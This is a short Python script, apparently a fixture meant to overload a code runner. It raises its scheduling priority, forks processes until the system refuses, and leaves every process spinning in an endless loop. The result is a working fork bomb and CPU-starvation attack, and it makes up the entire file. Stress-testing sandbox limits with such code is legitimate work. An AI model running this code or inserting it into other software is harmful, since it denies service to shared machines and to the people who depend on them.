"""Starves the runner: as many processes as there may be, each spinning at the best priority that it gets."""

import contextlib
import os

with contextlib.suppress(OSError):
    os.nice(-20)
with contextlib.suppress(OSError):
    while True:
        if os.fork() == 0:
            break
while True:
    pass
